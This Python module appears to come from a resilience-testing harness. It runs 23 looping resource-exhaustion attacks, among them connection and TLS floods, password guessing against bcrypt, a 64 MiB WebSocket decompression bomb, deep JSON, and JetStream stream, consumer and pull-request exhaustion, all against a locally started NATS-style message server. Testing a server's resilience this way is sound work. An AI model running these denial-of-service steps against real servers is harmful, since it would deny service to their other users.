"""Attacks that use up resources of other clients. Each function is one step of an attack, and is called in a
loop."""

import base64
import functools
import json
import os
import socket
import ssl
import struct
import time
import zlib
from collections.abc import Callable

from harness.certificates import self_signed
from harness.peer import CONNECT, Closed, Peer
from harness.server import port_free

CONFIG = """
http: "127.0.0.1:%(http)d"
authorization {
  timeout: 30
  users: [
    { user: ada, password: pw }
    { user: eve, password: "$2a$11$Ro1tPWlBsRMVU0CmJqGKbuUkUcnIRGEeSz2R5XbLeXgBmDsUdpDWS" }
  ]
}
websocket { listen: "127.0.0.1:%(websocket)d", no_tls: true, compression: true, handshake_timeout: "30s" }
mqtt {
  listen: "127.0.0.1:%(mqtt)d"
  tls { cert_file: "%(folder)s/server.pem", key_file: "%(folder)s/server.key" }
}
leafnodes { listen: "127.0.0.1:%(leaf)d" }
jetstream { store_dir: "%(folder)s", max_mem: 1GB, max_file: 1GB }
"""
CREDENTIALS = CONNECT.replace(b"{", b'{"user":"ada","pass":"pw",')
WEBSOCKET_KEY = base64.b64encode(b"0123456789abcdef").decode()


class Target:
    """A server under attack, and the state that an attack keeps between its steps."""

    def __init__(self, folder: str):
        self.folder = folder
        self.ports = {name: port_free() for name in ("http", "websocket", "mqtt", "leaf")}
        self.port = 0
        self.kept: dict[str, object] = {}

    def config(self) -> str:
        self_signed(self.folder, "server")
        path = os.path.join(self.folder, "conf")
        with open(path, "w") as file:
            file.write(CONFIG % {"folder": self.folder, **self.ports})
        return path

    def prepare(self):
        """Creates a stream for attacks on JetStream."""
        with self.peer() as peer:
            request(peer, "$JS.API.STREAM.CREATE.S", {"name": "S", "subjects": ["s.>"], "storage": "memory"})

    def peer(self) -> Peer:
        return Peer(self.port, CREDENTIALS)

    def stream(self, listener: str = "client") -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.ports.get(listener, self.port)), timeout=10)

    def keep(self, name: str, make: Callable):
        """Returns the value that an earlier step has made, or makes it."""
        if name not in self.kept:
            self.kept[name] = make()
        return self.kept[name]


def request(peer: Peer, subject: str, body) -> bytes:
    """Sends a request and returns its response. A peer subscribes to its inbox once."""
    payload = body if isinstance(body, bytes) else json.dumps(body).encode()
    if not hasattr(peer, "has_inbox"):
        peer.has_inbox = True
        peer.send(b"SUB _INBOX.attack 9\r\n")
    peer.send(b"PUB %s _INBOX.attack %d\r\n%s\r\n" % (subject.encode(), len(payload), payload))
    return peer.message()[1]


def nothing(_: Target):
    time.sleep(1)


def connections(target: Target):
    target.stream().close()


def garbage(target: Target):
    with target.stream() as stream:
        stream.sendall(b"\xff" * 2_000)
        drain(stream)


def drain(stream: socket.socket):
    try:
        while stream.recv(1 << 16):
            pass
    except OSError:
        pass


def silent(target: Target):
    """Two thousand connections that send nothing; each step replaces the oldest."""
    waiting = target.keep("waiting", lambda: [target.stream() for _ in range(2_000)])
    waiting.pop(0).close()
    waiting.append(target.stream())


def passwords(target: Target):
    guess = CONNECT.replace(b"{", b'{"user":"ada","pass":"wrong",')
    with Peer(target.port, guess) as peer:
        peer.until_closed()


def hashes(target: Target):
    """Sixteen concurrent wrong passwords for a user with a bcrypt hash."""
    guess = CONNECT.replace(b"{", b'{"user":"eve","pass":"wrong",')
    waiting = target.keep("waiting", list)
    while len(waiting) < 16:
        waiting.append(Peer(target.port, guess))
    peer = waiting.pop(0)
    peer.until_closed()
    peer.close()


def handshakes(target: Target):
    context = target.keep("context", insecure)
    with target.stream("mqtt") as stream:
        context.wrap_socket(stream, do_handshake_on_connect=True).close()


def insecure() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def hellos(target: Target):
    """The first message of a TLS handshake, each time on another connection, which then closes."""
    with target.stream("mqtt") as stream:
        tls = insecure_bio()
        stream.sendall(tls)
        stream.recv(10)


@functools.cache
def insecure_bio() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = insecure().wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def nested(target: Target):
    with target.stream() as stream:
        stream.recv(1 << 16)
        stream.sendall(b'CONNECT {"x":' + b"[" * 3_500 + b"]" * 3_500 + b"}\r\n")
        drain(stream)


@functools.cache
def bomb(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)


def bombs(target: Target):
    """A compressed WebSocket message that decompresses to 64 MiB."""
    data = bomb(64 << 20)[:-4]
    with target.stream("websocket") as stream:
        stream.sendall(
            f"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {WEBSOCKET_KEY}\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Extensions: permessage-deflate; server_no_context_takeover; client_no_context_takeover\r\n"
            "\r\n".encode()
        )
        stream.recv(4096)
        try:
            stream.sendall(struct.pack(">BBQ", 0xC2, 0xFF, len(data)) + bytes(4) + data)
        except OSError:
            return
        drain(stream)


def churn(target: Target):
    """A thousand wildcard subscriptions, created and removed."""
    peer = target.keep("peer", target.peer)
    peer.send(b"".join(b"SUB a.%d.*.> %d\r\nUNSUB %d\r\n" % (n, n, n) for n in range(1_000)))
    peer.flush()


def wildcards(target: Target):
    """Messages with new subjects, which ten thousand filters almost match."""

    def make() -> Peer:
        peer = target.peer()
        peer.send(b"".join(b"SUB *.%s.%d %d\r\n" % (b".".join([b"*"] * (n % 14)), n, n) for n in range(1, 10_000) if n % 14))
        peer.flush()
        return peer

    peer = target.keep("peer", make)
    number = target.keep("number", lambda: iter(range(1 << 40)))
    for _ in range(100):
        subject = b".".join([b"a"] * 14) + b".x%d" % next(number)
        peer.send(b"PUB %s 0\r\n\r\n" % subject)
    peer.flush()


def headers(target: Target):
    peer = target.keep("peer", target.peer)
    block = b"NATS/1.0\r\n" + b"".join(b"k%d: v\r\n" % n for n in range(5_000)) + b"\r\n"
    peer.send(b"HPUB s.x %d %d\r\n%s\r\n" % (len(block), len(block), block))
    peer.flush()


def floods(target: Target):
    peer = target.keep("peer", target.peer)
    peer.send(b"PUB nobody 16\r\n0123456789abcdef\r\n" * 4_000)


def slow_readers(target: Target):
    """A subscriber that reads nothing, and a publisher for it."""

    def make() -> Peer:
        reader = target.peer()
        reader.send(b"SUB big 1\r\n")
        reader.flush()
        return reader

    target.keep("reader", make)
    target.keep("peer", target.peer).send(b"PUB big 4096\r\n%s\r\n" % bytes(4_096) * 16)


def streams(target: Target):
    peer = target.keep("peer", target.peer)
    request(peer, "$JS.API.STREAM.CREATE.T", {"name": "T", "subjects": ["t.>"], "storage": "memory"})
    request(peer, "$JS.API.STREAM.DELETE.T", b"")


def stored_streams(target: Target):
    peer = target.keep("peer", target.peer)
    request(peer, "$JS.API.STREAM.CREATE.T", {"name": "T", "subjects": ["t.>"], "storage": "file"})
    request(peer, "$JS.API.STREAM.DELETE.T", b"")


def consumers(target: Target):
    peer = target.keep("peer", target.peer)
    config = {"ack_policy": "explicit", "inactive_threshold": 10**9, "filter_subjects": [f"s.{n}.>" for n in range(100)]}
    request(peer, "$JS.API.CONSUMER.CREATE.S", {"stream_name": "S", "config": config})


def pulls(target: Target):
    """Pull requests that stay pending."""

    def make() -> Peer:
        peer = target.peer()
        config = {"durable_name": "C", "ack_policy": "explicit", "max_waiting": 100_000}
        request(peer, "$JS.API.CONSUMER.DURABLE.CREATE.S.C", {"stream_name": "S", "config": config})
        return peer

    peer = target.keep("peer", make)
    pull = b'{"batch":1000000,"expires":1000000000}'
    peer.send(b"PUB $JS.API.CONSUMER.MSG.NEXT.S.C _INBOX.none %d\r\n%s\r\n" % (len(pull), pull) * 100)
    peer.flush()


def lists(target: Target):
    """A list of streams, in an account that has two hundred of them."""

    def make() -> Peer:
        peer = target.peer()
        for n in range(200):
            request(peer, f"$JS.API.STREAM.CREATE.L{n}", {"name": f"L{n}", "subjects": [f"l.{n}"], "storage": "memory"})
        return peer

    request(target.keep("peer", make), "$JS.API.STREAM.LIST", b"")


def publishes(target: Target):
    """Messages to a stream in memory, with a header that JetStream reads."""
    peer = target.keep("peer", target.peer)
    block = b"NATS/1.0\r\nNats-Expected-Last-Sequence: 1\r\n\r\n"
    peer.send(b"HPUB s.x _INBOX.none %d %d\r\n%s\r\n" % (len(block), len(block), block) * 1_000)
    peer.flush()


def pages(target: Target):
    """A monitoring page that lists ten thousand subscriptions."""

    def make() -> Peer:
        peer = target.peer()
        peer.send(b"".join(b"SUB page.%d %d\r\n" % (n, n) for n in range(10_000)))
        peer.flush()
        return peer

    target.keep("peer", make)
    with target.stream("http") as stream:
        stream.sendall(b"GET /connz?subs=detail HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        drain(stream)


def leafs(target: Target):
    with target.stream("leaf") as stream:
        stream.recv(1 << 16)
        stream.sendall(b"CONNECT {}\r\n" + b"LS+ x\r\n" * 100)
        drain(stream)


def survives(attack):
    """Repeats an attack even if the server closes the attacker's connection."""

    @functools.wraps(attack)
    def play(target: Target):
        try:
            attack(target)
        except (Closed, OSError):
            target.kept.clear()

    return play


ATTACKS = {
    name: survives(attack)
    for name, attack in {
        "none": nothing,
        "connections that are opened and closed": connections,
        "connections that send garbage": garbage,
        "2,000 silent connections": silent,
        "wrong passwords": passwords,
        "wrong passwords against bcrypt, 16 at a time": hashes,
        "TLS handshakes": handshakes,
        "first messages of TLS handshakes": hellos,
        "CONNECT with deep JSON": nested,
        "compressed WebSocket messages of 64 MiB": bombs,
        "subscriptions that come and go": churn,
        "new subjects beside 10,000 wildcards": wildcards,
        "5,000 headers": headers,
        "messages to nobody": floods,
        "a subscriber that reads nothing": slow_readers,
        "streams in memory, created and deleted": streams,
        "streams on disk, created and deleted": stored_streams,
        "consumers with 100 filters": consumers,
        "pull requests that wait": pulls,
        "lists of 200 streams": lists,
        "messages to a stream that are refused": publishes,
        "monitoring of 10,000 subscriptions": pages,
        "leaf nodes that are refused": leafs,
    }.items()
}
